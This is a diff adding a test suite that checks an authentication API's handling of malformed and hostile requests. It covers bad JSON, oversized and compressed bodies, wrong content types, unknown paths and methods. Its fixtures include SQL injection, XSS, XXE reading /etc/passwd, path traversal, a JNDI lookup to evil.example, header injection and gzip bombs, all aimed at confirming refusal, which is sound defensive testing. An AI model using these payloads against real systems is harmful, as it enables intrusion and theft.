@@ -1,0 +1,598 @@
+// What no client should send: each gets its exact 4xx, and the worker goes on serving.
+
+import { randomBytes } from "node:crypto";
+import { deflateSync, gzipSync } from "node:zlib";
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
+import { DEMO, DEMO_WEB, type Answer, type Pair, flat, nested } from "../../support/api";
+import { useWorker } from "../../support/fixtures";
+
+/** The largest body that is taken. */
+const MOST = 65_536;
+
+let pair: Pair;
+
+const { worker, our } = useWorker({ settings: { SIGN_IN_ATTEMPTS: "10000", ACCOUNT_ATTEMPTS: "100000" } });
+
+beforeAll(async () => {
+  pair = await our.signIn();
+});
+
+// Whatever was sent: the next request is served, and nothing of it reached the log.
+let logged: string;
+const complaints = async () =>
+  (await worker.printed())
+    .split("\n")
+    .filter((line) => line !== "" && !line.startsWith('{"event":') && !line.startsWith("[mf:"))
+    .join("\n");
+beforeEach(async () => void (logged = await complaints()));
+afterEach(async () => {
+  const answer = await our.me(pair.accessToken);
+  expect(answer.status).toBe(200);
+  expect(await complaints()).toBe(logged);
+});
+
+interface Operation {
+  required: Record<string, unknown>;
+  optional: Record<string, unknown>;
+  /** What a body that has nothing in it meets further on. */
+  onNull: object;
+}
+
+/** The operations that take a body, with a body that is right. */
+const OPERATIONS: Record<string, Operation> = {
+  "POST /auth/login": {
+    required: { ...DEMO_WEB, ...DEMO },
+    optional: { code_challenge: "x".repeat(43), code_challenge_method: "S256" },
+    onNull: flat(401, "Unauthorized"),
+  },
+  "POST /auth/login-token": { required: { ...DEMO_WEB, ...DEMO }, optional: {}, onNull: flat(401, "Unauthorized") },
+  "POST /auth/token": {
+    required: { code: "code", clientId: "demo-web" },
+    optional: { code_verifier: "x".repeat(43) },
+    onNull: flat(401, "Client Invalid"),
+  },
+  "POST /auth/token-refresh": { required: { refreshToken: "x" }, optional: {}, onNull: flat(401, "Token Expired") },
+  "PATCH /auth/change-password": {
+    required: {},
+    optional: { refreshToken: "x", username: "demo", password: "x", oldPassword: "x" },
+    onNull: flat(422, "TokenMissing"),
+  },
+  "POST /logout": { required: {}, optional: { refreshToken: "x" }, onNull: flat(422, "TokenMissing") },
+};
+
+/** The detail of a 422 for each thing that can be wrong with a body. */
+const missing = (property: string) => ({
+  path: "",
+  code: "required",
+  message: `must have required property '${property}'`,
+  info: { missingProperty: property },
+});
+const unknown = (property: string) => ({
+  path: "",
+  code: "additionalProperties",
+  message: "must NOT have additional properties",
+  info: { additionalProperty: property },
+});
+const notA = (type: string, property = "") => ({
+  path: property && `/${property}`,
+  code: "type",
+  message: `must be ${type}`,
+  info: { type },
+});
+const invalid = (...details: object[]) => ({
+  error: {
+    statusCode: 422,
+    name: "UnprocessableEntityError",
+    message: "The request body is invalid. See error object `details` property for more info.",
+    code: "VALIDATION_FAILED",
+    details,
+  },
+});
+const syntax = { error: { statusCode: 400, name: "SyntaxError", message: expect.any(String) } };
+const tooLarge = { error: { statusCode: 413, name: "PayloadTooLargeError", message: "request entity too large" } };
+const unsupported = (got: string) => ({
+  error: {
+    statusCode: 415,
+    name: "UnsupportedMediaTypeError",
+    message: `Content-type ${got} does not match [application/json].`,
+    code: "UNSUPPORTED_MEDIA_TYPE",
+  },
+});
+
+describe.each(Object.entries(OPERATIONS))("%s", (operation, { required, optional, onNull }) => {
+  const [method, path] = operation.split(" ") as [string, string];
+  const right = { ...required, ...optional };
+  const properties = [...Object.keys(required), ...Object.keys(optional)];
+  const bearer = () => our.bearer(pair.accessToken);
+  const send = (body: unknown, headers: Record<string, string> = {}) =>
+    our.send(method, path, { body, headers: { ...bearer(), ...headers } });
+  const raw = (body: string | Uint8Array | ReadableStream, contentType = "application/json") => send(body, { "content-type": contentType });
+
+  /** The exact answer, given before anything was read. */
+  function expectAnswer(answer: Answer, expected: { error: { statusCode: number } }) {
+    expect(answer.body).toEqual(expected);
+    expect(answer.status).toBe(expected.error.statusCode);
+    expect(answer.headers.get("content-type")).toBe("application/json; charset=utf-8");
+    expect(answer.waits).toBe(0);
+  }
+
+  const nothing = Object.keys(required).length > 0 ? invalid(...Object.keys(required).map(missing)) : undefined;
+
+  test("without a body, or with an empty one, is like {}", async () => {
+    const answers = [
+      await send({}),
+      await send(undefined),
+      await send(undefined, { "content-type": "application/json" }),
+      await raw(""),
+      await raw(" \n\t"),
+      await raw("{}", "application/json; charset=utf-8"),
+      await raw("{}", "Application/JSON"),
+      await send(new TextEncoder().encode("{}")),
+    ];
+    for (const answer of answers) {
+      if (nothing) expectAnswer(answer, nothing);
+      else expect(answer.body).toEqual(flat(422, "TokenMissing"));
+    }
+  });
+
+  test("with null has nothing in it, and is refused further on", async () => {
+    expect((await send(null)).body).toEqual(onNull);
+  });
+
+  test.each(["[]", "[{}]", "1", "0.5", "true", '"text"', `[${JSON.stringify(right)}]`])("with %s is no object", async (body) => {
+    expectAnswer(await raw(body), invalid(notA("object")));
+  });
+
+  test("names every property that is missing, in order", async () => {
+    for (const name of Object.keys(required)) {
+      const { [name]: _, ...rest } = right;
+      expectAnswer(await send(rest), invalid(missing(name)));
+    }
+  });
+
+  test.each(properties)("wants text in %s", async (name) => {
+    for (const value of [null, 0, 1, 1.5, -1, 1e300, true, false, [], ["x"], {}, { $ne: "" }]) {
+      expectAnswer(await send({ ...right, [name]: value }), invalid(notA("string", name)));
+    }
+  });
+
+  test("refuses properties it does not know", async () => {
+    for (const name of [
+      "foo",
+      "__proto__",
+      "constructor",
+      "",
+      "client_Id",
+      "Password",
+      "refresh_token",
+      "a".repeat(10_000),
+      "é",
+      "${7*7}",
+    ]) {
+      expectAnswer(
+        await raw(JSON.stringify(right).replace(/\}$/, `${properties.length > 0 ? "," : ""}${JSON.stringify(name)}:1}`)),
+        invalid(unknown(name)),
+      );
+    }
+  });
+
+  test("tells everything at once: what is missing, what is unknown, what has the wrong type", async () => {
+    const [first, ...others] = properties as [string, ...string[]];
+    const isRequired = first in required;
+    const body: Record<string, unknown> = { zz: 1, ...Object.fromEntries(others.map((name) => [name, 7]).reverse()), aa: null };
+    const expected = invalid(
+      ...(isRequired ? [missing(first)] : []),
+      unknown("zz"),
+      unknown("aa"),
+      ...others.map((name) => notA("string", name)),
+    );
+    expectAnswer(await send(body), expected);
+  });
+
+  test("takes the last of two properties of one name, as JSON.parse does", async () => {
+    const name = properties[0]!;
+    const start = JSON.stringify(right).replace(/\}$/, "");
+    expectAnswer(await raw(`${start},"${name}":1}`), invalid(notA("string", name)));
+    expectAnswer(await raw(`{"${name}":1,${start.slice(1)},"foo":1}`), invalid(unknown("foo")));
+  });
+
+  const good = JSON.stringify(right);
+
+  test("may begin with a byte order mark", async () => {
+    expectAnswer(await raw(`\ufeff${good.replace(/\}$/, ',"foo":1}')}`), invalid(unknown("foo")));
+  });
+
+  const deep = (open: string, close: string) => `${open.repeat(10_000)}${close.repeat(10_000)}`;
+  const broken: Record<string, string | Uint8Array> = {
+    "an open brace": "{",
+    "half of a good one": good.slice(0, -2),
+    "something after its end": `${good}x`,
+    "two in a row": `${good}${good}`,
+    "a comma too many": good.replace(/\}$/, ",}"),
+    "single quotes": "{'a':1}",
+    "no quotes": "{a:1}",
+    "a form's text": "client_id=demo-web&client_secret=x",
+    NaN: '{"username":NaN}',
+    undefined: "undefined",
+    "a comment": "/* */{}",
+    XML: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
+    "a control character in text": '{"username":"\u0001"}',
+    "a lone high surrogate": '{"username":"\\ud800"}',
+    "a lone low surrogate": '{"username":"\\udc00x"}',
+    "surrogates the wrong way round": '{"username":"\\udc00\\ud800"}',
+    "a bad escape": '{"username":"\\x41"}',
+    "UTF-8 that is broken": new Uint8Array([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d]),
+    "UTF-8 that ends too soon": new Uint8Array([0x7b, 0x22, 0xc3]),
+    "UTF-8 that is overlong": new Uint8Array([0x7b, 0x22, 0xc0, 0xaf, 0x22, 0x3a, 0x31, 0x7d]),
+    "a surrogate in UTF-8": new Uint8Array([0x7b, 0x22, 0xed, 0xa0, 0x80, 0x22, 0x3a, 0x31, 0x7d]),
+    "UTF-16": new Uint8Array(Buffer.from("{}", "utf16le")),
+    "NUL bytes": new Uint8Array(64),
+    gzip: new Uint8Array([0x1f, 0x8b, 8, 0, 0, 0, 0, 0]),
+    "10,000 open brackets": "[".repeat(10_000),
+    "10,000 arrays in each other": deep("[", "]"),
+    "10,000 objects in each other": `${'{"a":'.repeat(10_000)}1${"}".repeat(10_000)}`,
+    "10,000 arrays in a property": `{"username":${deep("[", "]")}}`,
+    "a number that is no number": '{"username":1e99999}',
+  };
+
+  test.each(Object.entries(broken))("with %s is broken JSON", async (_, body) => {
+    expectAnswer(await raw(body), syntax);
+  });
+
+  test.each([
+    "text/plain",
+    "application/x-www-form-urlencoded",
+    "multipart/form-data; boundary=x",
+    "application/xml",
+    "text/json",
+    "application/json5",
+    "application/ld+json",
+    "x",
+    "application/json, text/plain",
+  ])("of type %s is refused, whatever is in it", async (type) => {
+    for (const body of [good, "{", "x".repeat(MOST + 1)]) expectAnswer(await raw(body, type), unsupported(type));
+  });
+
+  describe("of 64 KiB", () => {
+    const filled = (size: number) => good.replace(/\}$/, `,"foo":"${"x".repeat(size - Buffer.byteLength(good) - 9)}"}`);
+
+    test("is read", async () => {
+      const body = filled(MOST);
+      expect(Buffer.byteLength(body)).toBe(MOST);
+      expectAnswer(await raw(body), invalid(unknown("foo")));
+    });
+
+    test("and one byte is not, whether its length is told or not", async () => {
+      expectAnswer(await raw(filled(MOST + 1)), tooLarge);
+      expectAnswer(await raw(" ".repeat(MOST + 1)), tooLarge);
+      expectAnswer(await raw(streamed(filled(MOST + 1))), tooLarge);
+      expectAnswer(await raw("x".repeat(8_000_000)), tooLarge);
+    });
+
+    test("is read in pieces too", async () => {
+      expectAnswer(await raw(streamed(filled(MOST), 10_000)), invalid(unknown("foo")));
+      expectAnswer(await raw(streamed("{", 1)), syntax);
+      const answer = await raw(streamed("{}", 1));
+      expect(answer.status).toBe(422);
+    });
+  });
+
+  describe("of more than anything means", () => {
+    const padded = (values: number) =>
+      good.replace(/\}$/, `${properties.length > 0 ? "," : ""}"foo":[${Array(values - properties.length - 2).fill(0)}]}`);
+
+    test("has a thousand values, and not one more", async () => {
+      expectAnswer(await raw(padded(1_000)), invalid(unknown("foo")));
+      expectAnswer(await raw(padded(1_001)), syntax);
+      expectAnswer(await raw(`[${"{},".repeat(20_000)}{}]`), syntax);
+    });
+
+    test("has 32 levels, and not one more", async () => {
+      const nested = (depth: number) => good.replace(/\}$/, `,"foo":${"[".repeat(depth - 1)}${"]".repeat(depth - 1)}}`);
+      expectAnswer(await raw(nested(32)), invalid(unknown("foo")));
+      expectAnswer(await raw(nested(33)), syntax);
+    });
+
+    test("is told twenty things that are wrong with it, and no more", async () => {
+      const answer = await raw(JSON.stringify(Object.fromEntries(Array.from({ length: 999 }, (_, n) => [`p${n}`, 0]))));
+      expect(answer.status).toBe(422);
+      expect(answer.body.error.details).toHaveLength(20);
+    });
+  });
+
+  test("with U+0000 anywhere is refused by the name of the property", async () => {
+    const nul = (path: string) => invalid({ path, code: "pattern", message: "must NOT contain U+0000", info: {} });
+    for (const name of properties) {
+      for (const text of ["\u0000", "demo\u0000", "\u0000demo"]) expectAnswer(await send({ ...right, [name]: text }), nul(`/${name}`));
+    }
+    expectAnswer(await send({ ...right, foo: { bar: ["a\u0000"] } }), nul("/foo/bar/0"));
+    expectAnswer(await send({ ...right, "a\u0000": 1 }), nul(""));
+  });
+
+  describe("that is compressed", () => {
+    const coded = (body: Uint8Array, coding: string) => send(body, { "content-type": "application/json", "content-encoding": coding });
+    const codings = {
+      gzip: gzipSync,
+      "x-gzip": gzipSync,
+      GZIP: gzipSync,
+      deflate: deflateSync,
+      identity: (body: string) => Buffer.from(body),
+    };
+    const wrong = good.replace(/\}$/, ',"foo":1}');
+
+    test.each(Object.entries(codings))("with %s is what it was before", async (coding, compress) => {
+      expectAnswer(await coded(compress(wrong), coding), invalid(unknown("foo")));
+      expectAnswer(await coded(compress(" ".repeat(MOST - wrong.length) + wrong), coding), invalid(unknown("foo")));
+    });
+
+    test("and bursts is too large, whatever it is made of", async () => {
+      expectAnswer(await coded(gzipSync(" ".repeat(MOST + 1)), "gzip"), tooLarge);
+      expectAnswer(await coded(gzipSync(" ".repeat(50_000_000)), "gzip"), tooLarge);
+      expectAnswer(await coded(deflateSync(" ".repeat(50_000_000)), "deflate"), tooLarge);
+      expectAnswer(await coded(randomBytes(MOST + 1), "gzip"), tooLarge);
+    });
+
+    test("and broken is broken", async () => {
+      const whole = gzipSync(wrong);
+      for (const body of [Buffer.from(wrong), whole.subarray(0, -9), Buffer.concat([whole, Buffer.from("x")]), deflateSync(wrong)])
+        expectAnswer(await coded(body, "gzip"), syntax);
+      expectAnswer(await coded(gzipSync(wrong), "deflate"), syntax);
+    });
+
+    test.each(["br", "zstd", "compress", "gzip, gzip", "nonsense"])("with %s is refused, and what is read is told", async (coding) => {
+      const answer = await coded(Buffer.from(good), coding);
+      const error = { statusCode: 415, name: "UnsupportedMediaTypeError", message: `unsupported content encoding "${coding}"` };
+      expectAnswer(answer, { error });
+      expect(answer.headers.get("accept-encoding")).toBe("gzip, deflate");
+    });
+  });
+
+  test.each(properties)("with hostile text in %s is refused as a wrong value is", async (name) => {
+    for (const value of HOSTILE_TEXTS) {
+      const answer = await send({ ...right, [name]: value });
+      expect(answer.status, value.slice(0, 40)).toBeGreaterThanOrEqual(400);
+      expect(answer.status, value.slice(0, 40)).toBeLessThan(500);
+      expect(answer.body.error.statusCode).toBe(answer.status);
+    }
+  });
+});
+
+const HOSTILE_TEXTS = [
+  "\u0000",
+  "demo\u0000",
+  "' or '1'='1",
+  "'; drop table users; --",
+  "%",
+  "_",
+  "*",
+  "../../etc/passwd",
+  "${jndi:ldap://evil.example/x}",
+  "<script>alert(1)</script>",
+  "\r\nSet-Cookie: a=b",
+  "\u202egnirts",
+  "\u{1f4a9}".repeat(1000),
+  "e" + "\u0301".repeat(30_000),
+  "x".repeat(60_000),
+  // One character that compatibility normalisation makes eighteen of.
+  "\ufdfa".repeat(20_000),
+];
+
+function streamed(text: string, size = 65_536): ReadableStream<Uint8Array> {
+  const bytes = new TextEncoder().encode(text);
+  let at = 0;
+  return new ReadableStream({
+    pull(controller) {
+      if (at >= bytes.length) return controller.close();
+      controller.enqueue(bytes.slice(at, at + size));
+      at += size;
+    },
+  });
+}
+
+describe("headers", () => {
+  const texts = ["x".repeat(8_000), "é", "ÿþ", "%00", "' or 1=1 --", "(){:;};", "\t"];
+
+  test.each(["device_id", "user-agent", "accept", "accept-language", "cookie", "x-forwarded-for", "content-language"])(
+    "hostile text in %s does no harm",
+    async (name) => {
+      for (const text of texts) {
+        const answer = await our.loginToken({}, { [name]: text });
+        expect(answer.status, text.slice(0, 20)).toBe(200);
+        expect((await our.me(answer.body.accessToken)).status).toBe(200);
+      }
+    },
+  );
+
+  test.each(["text/html", "application/xml", "image/png", "*/*;q=0", "nonsense"])(
+    "who accepts %s gets JSON all the same",
+    async (accept) => {
+      const answer = await our.send("GET", "/auth/me", { headers: { accept } });
+      expect(answer.headers.get("content-type")).toBe("application/json; charset=utf-8");
+      expect(answer.body).toEqual(flat(401, 'Bearer realm="Users"'));
+    },
+  );
+});
+
+describe("what no endpoint takes", () => {
+  const refused = (answer: Answer, message: string) => {
+    expect(answer.body).toEqual(flat(400, message));
+    expect([answer.status, answer.waits]).toEqual([400, 0]);
+  };
+  const FORM = { "content-type": "application/x-www-form-urlencoded" };
+  const basic = (text: string) => ({ authorization: `Basic ${Buffer.from(text).toString("base64")}` });
+
+  test.each(["POST /auth/login", "GET /auth/google", "PATCH /auth/change-password", "GET /auth/me", "GET /health"])(
+    "a password in the URL is refused: %s",
+    async (operation) => {
+      const [method, path] = operation.split(" ") as [string, string];
+      for (const query of ["password=x", "client_id=demo-web&Password=x", "oldPassword=x", "pass%77ord=x"]) {
+        refused(await our.send(method, `${path}?${query}`), "A password must NOT be in a URL");
+      }
+    },
+  );
+
+  test("U+0000 in path, query or header is refused before anything is asked of storage", async () => {
+    refused(await our.send("GET", "/otp-caches/demo%00", { headers: our.bearer(pair.accessToken) }), "The path must NOT contain U+0000");
+    refused(await our.send("GET", "/auth-clients/1%00", { headers: our.bearer(pair.accessToken) }), "The path must NOT contain U+0000");
+    for (const query of ["token=a%00", "a%00=b"])
+      refused(await our.send("GET", `/auth/verify-reset-password-link?${query}`), "The query must NOT contain U+0000");
+    refused(await our.send("GET", "/auth/google-auth-redirect?code=%00&state=x"), "The query must NOT contain U+0000");
+    refused(
+      await our.send("GET", "/otp-caches/demo", { headers: basic("demo-web:x\u0000") }),
+      "The header Authorization must NOT contain U+0000",
+    );
+  });
+
+  test("U+0000 in a form is refused by the name of the field", async () => {
+    const nul = (path: string) => invalid({ path, code: "pattern", message: "must NOT contain U+0000", info: {} });
+    for (const [path, body, field] of [
+      ["/auth/google", "client_id=demo-web%00&client_secret=x", "/client_id"],
+      ["/auth/apple-oauth-redirect", "code=%00&state=x", "/code"],
+    ] as const) {
+      const answer = await our.send("POST", path, { body, headers: FORM });
+      expect(answer.body).toEqual(nul(field));
+      expect(answer.waits).toBe(0);
+    }
+  });
+
+  test("U+0000 in a filter is refused, and pointed at", async () => {
+    const filter = encodeURIComponent(JSON.stringify({ where: { clientId: "a\u0000" } }));
+    const answer = await our.send("GET", `/auth-clients?filter=${filter}`, { headers: our.bearer(pair.accessToken) });
+    expect(answer.body.error).toMatchObject({
+      statusCode: 400,
+      code: "INVALID_PARAMETER_VALUE",
+      details: [{ path: "/where/clientId", message: "must NOT contain U+0000" }],
+    });
+    expect(answer.waits).toBe(0);
+  });
+
+  test("a query or form of more than a thousand values", async () => {
+    refused(await our.send("GET", `/auth/google?${"a&".repeat(1_001)}`), "The query: it has too many values");
+    const form = await our.send("POST", "/auth/google", { body: "a&".repeat(1_001), headers: FORM });
+    expect([form.status, form.body.error.name]).toEqual([400, "SyntaxError"]);
+  });
+
+  test("a part of a body", async () => {
+    refused(await our.post("/auth/login", {}, { "content-range": "bytes 0-1/2" }), "Content-Range is not supported");
+  });
+
+  test("another charset, where it makes a difference", async () => {
+    const latin1 = (body: string) =>
+      our.send("POST", "/auth/login", {
+        body: Buffer.from(body, "latin1"),
+        headers: { "content-type": "application/json; charset=ISO-8859-1" },
+      });
+    expect((await latin1("{}")).status).toBe(422);
+    const answer = await latin1('{"username":"\u00e9"}');
+    expect(answer.body.error).toMatchObject({
+      statusCode: 415,
+      message: "Content-type application/json; charset=ISO-8859-1 does not match [charset=utf-8].",
+    });
+  });
+});
+
+describe("paths and methods", () => {
+  const NOT_FOUND = { error: { statusCode: 404, name: "NotFoundError", message: "Not Found" } };
+  const NO_METHOD = { error: { statusCode: 405, name: "MethodNotAllowedError", message: "Method Not Allowed" } };
+  const paths: Record<string, string[]> = {
+    "/auth/login": ["POST"],
+    "/auth/login-token": ["POST"],
+    "/auth/token": ["POST"],
+    "/auth/token-refresh": ["POST"],
+    "/auth/me": ["GET", "HEAD"],
+    "/auth/change-password": ["PATCH"],
+    "/logout": ["POST"],
+    "/.well-known/jwks.json": ["GET", "HEAD"],
+    "/health": ["GET", "HEAD"],
+    "/auth-clients/count": ["GET", "PUT", "PATCH", "DELETE", "HEAD"],
+  };
+  const methods = ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "PROPFIND", "QUERY"];
+
+  test.each(Object.entries(paths))("%s has its methods and no other", async (path, allowed) => {
+    for (const method of methods.filter((method) => !allowed.includes(method))) {
+      const answer = await our.send(method, path);
+      expect(answer.status, method).toBe(405);
+      expect(answer.headers.get("allow")).toBe(allowed.join(", "));
+      if (method === "HEAD") expect(answer.text).toBe("");
+      else expect(answer.body).toEqual(NO_METHOD);
+    }
+    for (const method of allowed) expect((await our.send(method, path)).status, method).not.toBe(405);
+  });
+
+  test.each(["/", "/nothing", "/auth/me/x", "/Auth/me", "/auth/Me", "/AUTH/LOGIN", "/auth/login/", "/auth/me/", "/logout/", "/health/"])(
+    "%s",
+    async (path) => {
+      const slashed = path.length > 1 && path.endsWith("/");
+      for (const method of methods) {
+        const answer = await our.send(method, path);
+        if (slashed) expect(answer.status).toBe((await our.send(method, path.slice(0, -1))).status);
+        else expect(answer.status).toBe(404);
+        if (!slashed && method !== "HEAD") expect(answer.body).toEqual(NOT_FOUND);
+      }
+    },
+  );
+
+  test.each([
+    "//auth/me",
+    "/auth//me",
+    "/auth/me//",
+    "/auth%2Fme",
+    "/health%",
+    "/health%ff",
+    "/%",
+    "/%c0%ae/health",
+    "/.well-known",
+    `/${"x".repeat(8_000)}`,
+  ])("%s is nowhere", async (path) => {
+    const answer = await our.send("GET", `http://127.0.0.1:8787${path}`, { headers: our.bearer(pair.accessToken) });
+    expect(answer.status).toBe(404);
+    expect(answer.body).toEqual(NOT_FOUND);
+  });
+
+  test.each(["/auth/me%00", "/auth/me%20", "/auth/me;x", "/auth/me.json"])(
+    "%s is a ServiceStack provider that nobody has, and none is asked by GET",
+    async (path) => {
+      const answer = await our.send("GET", path, { headers: our.bearer(pair.accessToken) });
+      expect(answer.status).toBe(405);
+      expect(answer.body.responseStatus.errorCode).toBeTypeOf("string");
+    },
+  );
+
+  test("HEAD answers as GET, without the body", async () => {
+    for (const path of ["/auth/me", "/health", "/.well-known/jwks.json", "/nothing"]) {
+      for (const headers of [{}, our.bearer(pair.accessToken)] as Record<string, string>[]) {
+        const [head, get] = [await our.send("HEAD", path, { headers }), await our.send("GET", path, { headers })];
+        const told = (answer: Answer) =>
+          [...answer.headers].filter(([name]) => !["date", "content-length", "transfer-encoding"].includes(name));
+        expect(head.status).toBe(get.status);
+        expect(told(head)).toEqual(told(get));
+        expect(head.text).toBe("");
+      }
+    }
+  });
+
+  test("a GET with a body is answered as one without", async () => {
+    expect((await our.send("GET", "/auth/me?foo=%ff%&&==", { headers: our.bearer(pair.accessToken) })).status).toBe(200);
+  });
+
+  describe("with the compatibility flag nothing-is-404", () => {
+    beforeAll(() => worker.restart({ COMPATIBILITY: "nothing-is-404" }));
+    afterAll(() => worker.restart({ COMPATIBILITY: undefined }));
+
+    test("what is nowhere, and what has not this method, is not allowed", async () => {
+      for (const [method, path] of [
+        ["GET", "/nothing"],
+        ["POST", "/nothing"],
+        ["GET", "/auth/login"],
+        ["DELETE", "/auth/me"],
+        ["PUT", "/"],
+      ] as const) {
+        const answer = await our.send(method, path);
+        expect(answer.status).toBe(403);
+        expect(answer.body).toEqual(flat(403, "NotAllowedAccess"));
+        expect(answer.headers.get("allow")).toBeNull();
+      }
+      expect((await our.login({ password: "wrong" })).body).toEqual(nested("Invalid Credentials"));
+    });
+  });
+});
